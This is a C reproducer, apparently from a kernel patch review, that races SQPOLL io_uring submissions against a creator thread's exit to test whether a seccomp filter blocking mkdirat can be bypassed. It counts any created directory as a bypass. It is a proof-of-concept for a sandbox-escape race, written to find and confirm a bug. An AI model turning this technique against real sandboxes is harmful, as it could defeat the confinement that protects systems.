// SPDX-License-Identifier: GPL-2.0
/*
 * issue 14 round 6, finding A1: io_seccomp_check() reads ctx->sq_last
 * ("also") while the SQPOLL creator is alive (NULL), then
 * seccomp_uring_check() -> seccomp_uring_pin_filter() finds the creator's
 * chain released (-ESRCH) and recurses with current (the SQ thread) and
 * the stale also == NULL: that SQE is judged by the SQ thread's chain
 * alone, without the filter the creator installed after setup (no TSYNC).
 *
 * Each round: thread C sets up a SQPOLL ring, installs F ("mkdirat ->
 * EPERM", URING, no TSYNC), the main thread queues N MKDIRAT SQEs (all
 * must get -EPERM: by C's chain while C lives, by C's kept chain after),
 * wakes the SQ thread and lets C exit in the middle of the batch. A CQE
 * with res >= 0 (a directory made) is the bypass.
 *
 * Build: gcc -static -O2 -Wall -pthread -I$K/usr/include -o r6-pin-race r6-pin-race.c
 * Run:   r6-pin-race [rounds] [entries]
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

struct ring {
	int fd;
	unsigned int entries;
	unsigned int *sq_tail, *sq_mask, *sq_array;
	unsigned int *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
	void *sq_map, *sqe_map;
	size_t sq_len, sqe_len;
};

static int ring_init(struct ring *r, unsigned int entries)
{
	struct io_uring_params p;
	size_t cq_len;
	char *sq;

	memset(&p, 0, sizeof(p));
	p.flags = IORING_SETUP_SQPOLL | IORING_SETUP_SQ_AFF;
	p.sq_thread_cpu = 1;	/* C and main run on CPU 0 */
	p.sq_thread_idle = 2000;
	r->fd = syscall(__NR_io_uring_setup, entries, &p);
	if (r->fd < 0)
		return -errno;
	r->entries = p.sq_entries;
	r->sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned int);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (cq_len > r->sq_len)
		r->sq_len = cq_len;
	sq = mmap(NULL, r->sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		  r->fd, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	r->sq_map = sq;
	r->sqe_len = p.sq_entries * sizeof(struct io_uring_sqe);
	r->sqes = mmap(NULL, r->sqe_len, PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		return -errno;
	r->sqe_map = r->sqes;
	r->sq_tail = (unsigned int *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned int *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned int *)(sq + p.sq_off.array);
	r->cq_head = (unsigned int *)(sq + p.cq_off.head);
	r->cq_tail = (unsigned int *)(sq + p.cq_off.tail);
	r->cq_mask = (unsigned int *)(sq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(sq + p.cq_off.cqes);
	return 0;
}

static void ring_free(struct ring *r)
{
	munmap(r->sq_map, r->sq_len);
	munmap(r->sqe_map, r->sqe_len);
	close(r->fd);
}

static int load(struct sock_filter *f, unsigned short len, unsigned long flags)
{
	struct sock_fprog prog = { .len = len, .filter = f };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog))
		return -errno;
	return 0;
}

/* B0: a URING filter that allows everything (the SQ thread's chain) */
static int load_b0(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0x7ffffff, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 99),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	return load(f, 4, SECCOMP_FILTER_FLAG_URING);
}

/* F: mkdirat -> EPERM */
static int load_f(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_mkdirat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	return load(f, 4, SECCOMP_FILTER_FLAG_URING);
}

static struct ring ring;
static volatile int c_ready, c_go, c_err;
static int go_pipe[2];

static void pin_cpu0(void)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(0, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static void *creator(void *arg)
{
	c_err = ring_init(&ring, (unsigned long)arg);
	if (!c_err)
		c_err = load_f();
	char b;

	pin_cpu0();
	__atomic_store_n(&c_ready, 1, __ATOMIC_RELEASE);
	if (read(go_pipe[0], &b, 1) != 1)
		c_err = -EIO;
	return NULL;	/* exit now, in the middle of the batch */
}

static char paths[65536][40];

int main(int argc, char **argv)
{
	int rounds = argc > 1 ? atoi(argv[1]) : 200;
	unsigned int entries = argc > 2 ? atoi(argv[2]) : 4096;
	long spin_max = argc > 3 ? atol(argv[3]) : 200000;
	int round, bypass = 0, bad = 0, mid = 0;
	unsigned int i;

	mkdir("/tmp/r6race", 0700);
	pin_cpu0();
	if (pipe(go_pipe))
		return 1;
	if (load_b0()) {
		printf("FAIL load b0\n");
		return 1;
	}
	srand(getpid());
	for (round = 0; round < rounds && !bypass; round++) {
		pthread_t t;
		unsigned int n, seen = 0, head, at_go, at_join;
		long spin = rand() % spin_max;
		int ms = 20000;

		c_ready = c_go = 0;
		pthread_create(&t, NULL, creator, (void *)(unsigned long)entries);
		while (!__atomic_load_n(&c_ready, __ATOMIC_ACQUIRE))
			sched_yield();
		if (c_err) {
			printf("FAIL creator %d\n", c_err);
			return 1;
		}
		n = ring.entries;
		for (i = 0; i < n; i++) {
			struct io_uring_sqe *s = &ring.sqes[i];

			snprintf(paths[i], sizeof(paths[i]), "/tmp/r6race/d%d_%u", round, i);
			memset(s, 0, sizeof(*s));
			s->opcode = IORING_OP_MKDIRAT;
			s->fd = AT_FDCWD;
			s->addr = (unsigned long)paths[i];
			s->len = 0700;
			s->user_data = i;
			ring.sq_array[i] = i;
		}
		__atomic_store_n(ring.sq_tail, *ring.sq_tail + n, __ATOMIC_RELEASE);
		syscall(__NR_io_uring_enter, ring.fd, n, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
		/* let C exit a random time after the SQ thread is woken */
		for (volatile long k = 0; k < spin; k++)
			;
		at_go = __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE);
		__atomic_store_n(&c_go, 1, __ATOMIC_RELEASE);
		if (write(go_pipe[1], "g", 1) != 1)
			return 1;
		pthread_join(t, NULL);
		at_join = __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE);
		if (at_go < n && at_join < n)
			mid++;
		head = *ring.cq_head;
		while (seen < n && ms > 0) {
			struct timespec ts = { 0, 1000000 };

			while (head != __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE)) {
				struct io_uring_cqe *c = &ring.cqes[head & *ring.cq_mask];

				if (c->res != -EPERM) {
					printf("round %d SQE %llu: res %d%s\n", round,
					       (unsigned long long)c->user_data, c->res,
					       c->res >= 0 ? "  <== BYPASS (directory made)" : "");
					if (c->res >= 0)
						bypass++;
					else
						bad++;
				}
				head++;
				seen++;
			}
			__atomic_store_n(ring.cq_head, head, __ATOMIC_RELEASE);
			if (seen < n) {
				nanosleep(&ts, NULL);
				ms--;
			}
		}
		if (seen < n)
			printf("round %d: only %u of %u CQEs\n", round, seen, n);
		ring_free(&ring);
		if (round % 50 == 0)
			printf("round %d done (spin %ld, CQEs at go %u, at join %u, mid-batch exits so far %d)\n",
			       round, spin, at_go, at_join, mid);
	}
	printf("R6-RACE %s after %d rounds (bypass %d, other %d, creator exited mid-batch in %d)\n",
	       bypass ? "BYPASS" : "no bypass seen", round, bypass, bad, mid);
	return 0;
}
